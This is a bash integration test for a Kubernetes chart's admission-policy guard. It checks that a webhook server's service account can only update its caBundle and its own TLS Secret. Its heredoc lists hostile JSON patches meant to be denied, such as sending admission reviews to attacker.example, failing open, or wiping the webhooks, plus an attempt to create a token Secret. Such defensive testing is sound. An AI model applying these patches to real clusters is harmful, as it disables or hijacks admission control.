# Story: whoever takes over a server's account can do nothing with it but keep the certificate

chart() { # chart TEMPLATE: what mode self makes of it
    chart_template brgate \
        --set fullnameOverride=brgate,certificates.secretName=brgate-tls --show-only "templates/$1.yaml"
}
as_server() { kubectl --as=system:serviceaccount:brgate-system:brgate "$@"; }

# What the account should not be able to do: a line for each, a description and the arguments of kubectl.
bundle=$(certificate_base64 cluster-ca)
cat >"$work/attacks" <<TXT
send the reviews elsewhere|/webhooks/0/clientConfig|replace|{"url": "https://attacker.example/", "caBundle": "$bundle"}
ask another path|/webhooks/0/clientConfig/service/path|replace|"/metrics"
ask about all resources|/webhooks/0/rules|replace|[{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]
ask about no namespace|/webhooks/0/namespaceSelector|replace|{"matchLabels": {"no": "where"}}
ask about no object|/webhooks/0/objectSelector|replace|{"matchLabels": {"no": "thing"}}
let everything in when no server answers|/webhooks/0/failurePolicy|replace|"Ignore"
add a condition|/webhooks/0/matchConditions|add|[{"name": "never", "expression": "false"}]
wait longer|/webhooks/0/timeoutSeconds|replace|30
add a webhook|/webhooks/-|add|{"name": "x.brgate.io", "clientConfig": {"url": "https://attacker.example/"}, "admissionReviewVersions": ["v1"], "sideEffects": "None"}
drop the webhooks|/webhooks|replace|[]
rename a webhook|/webhooks/0/name|replace|"x.brgate.io"
keep it from being deleted|/metadata/finalizers|add|["example.com/never"]
take it out of the release|/metadata/labels|add|{"app.kubernetes.io/managed-by": "nobody"}
TXT
attack() { # attack KIND LINE
    local what path op value
    IFS='|' read -r what path op value <<<"$2"
    as_server patch "$1" brgate --dry-run=server --type=json -p "[{\"op\": \"$op\", \"path\": \"$path\", \"value\": $value}]"
}
attacks() { # attacks VERDICT: which of them do not end so
    local kind line said
    for kind in validatingwebhookconfiguration mutatingwebhookconfiguration; do
        while read -r line; do
            said=$(attack "$kind" "$line" 2>&1)
            [[ $said == *"$1"* ]] || echo "$kind: ${line%%|*}: $said"
        done <"$work/attacks"
    done
}
secret() { # secret NAME TYPE
    local data='tls.crt: "", tls.key: ""'
    [[ $2 == kubernetes.io/tls ]] || data=
    as_server create --dry-run=server -f - <<YAML
apiVersion: v1
kind: Secret
metadata: {name: $1, namespace: brgate-system, annotations: {kubernetes.io/service-account.name: default}}
type: $2
data: {$data}
YAML
}

gate_bundle=
port_free >"$work/gate.port"
port_free >"$work/gate.health"
given "the webhook configurations" eval 'gate_manifests Fail | kubectl apply -f -'
given "the rights that the chart gives a server's account" eval 'chart rbac | kubectl apply -f - && rights_are_known'

# ---- RBAC alone says little
then_equal "without the guard it may change anything in its webhook configurations" "$(attacks patched)" ""
when "it creates a Secret that the token controller would fill in" secret brgate-tls kubernetes.io/service-account-token
then_it_passes
when "it creates another Secret" secret other Opaque
then_it_passes

# ---- The guard
given "the chart's guard" eval 'chart guard | kubectl apply -f -'
guarded() { ! attack validatingwebhookconfiguration "$(head -n 1 "$work/attacks")" && ! secret other Opaque; }
given "it is in force" wait_for 60 guarded
typed() { # both have been looked at
    [[ $(kubectl get validatingadmissionpolicy -l app.kubernetes.io/name=brgate -o 'jsonpath={.items[*].status.observedGeneration}') == "1 1" ]]
}
given "the controllers have looked at its expressions" wait_for 90 typed
then_equal "and find no fault with their types" "$(kubectl get validatingadmissionpolicy -l app.kubernetes.io/name=brgate \
    -o 'jsonpath={.items[*].status.typeChecking.expressionWarnings}')" ""
then_equal "none of the $(wc -l <"$work/attacks") attacks on either configuration passes" \
    "$(attacks "denied request: this account may change caBundle only")" ""
when "it creates a configuration" as_server apply --server-side -f - <<<"$(gate_manifests Fail | sed -n '/^kind: ValidatingW/,$p' |
    sed '1 i apiVersion: admissionregistration.k8s.io/v1' | sed 's/^metadata: .*/metadata: {name: other}/')"
then_has "it has no right to" "$err" "cannot"
when "it creates a Secret that the token controller would fill in" secret brgate-tls kubernetes.io/service-account-token
then_has "it is refused" "$err" "this account may create a Secret of type kubernetes.io/tls only"
when "it creates one of type Opaque" secret brgate-tls Opaque
then_has "it is refused" "$err" "this account may create a Secret of type kubernetes.io/tls only"
when "it creates another Secret" secret other kubernetes.io/tls
then_has "it is refused" "$err" "this account may write the Secret brgate-system/brgate-tls only"
when "it creates its own" secret brgate-tls kubernetes.io/tls
then_it_passes
for kind in validatingwebhookconfiguration mutatingwebhookconfiguration; do
    when "it changes the caBundle in its $kind" attack "$kind" "x|/webhooks/0/clientConfig/caBundle|add|\"$bundle\""
    then_it_passes
done
when "an administrator edits the configuration" kubectl patch validatingwebhookconfiguration brgate --dry-run=server --type=merge \
    -p '{"metadata": {"labels": {"team": "database"}}}'
then_it_passes "the guard is for the servers' account only"

# ---- What it is there for goes on
token=$(kubectl create token brgate -n brgate-system)
sed "s|users: .*|users: [{name: admin, user: {token: $token}}]|" "$work/apiserver.kubeconfig" >"$work/gate.kubeconfig"
process_start gate "$brgate" serve --listen "127.0.0.1:$(<"$work/gate.port")" --health-listen "127.0.0.1:$(<"$work/gate.health")" \
    --shutdown-delay 0s --certs-secret brgate-system/brgate-tls --certs-service brgate --webhook-configuration brgate \
    --certs-life 30s --certs-settle 1s --certs-interval 100ms --kubeconfig "$work/gate.kubeconfig"
then_true "a server with that account makes its certificate, and is believed" wait_for 90 gate_is_asked
step_done() { [[ $(curl -fs "http://127.0.0.1:$(<"$work/gate.health")/metrics") == *"brgate_certs_steps_total{step=\"$1\"} 1"* ]]; }
then_true "and renews it" wait_for 120 step_done switch
then_true "reviews go on" wait_for 60 gate_is_asked
then_equal "nothing was refused to it" "$(grep -E '"event":"certificates".*(40[13]|422|cannot)' "$work/log/gate")" ""

gate_down
{
    chart guard
    echo ---
    chart rbac
} | kubectl delete -f - >/dev/null
kubectl delete secret brgate-tls -n brgate-system >/dev/null
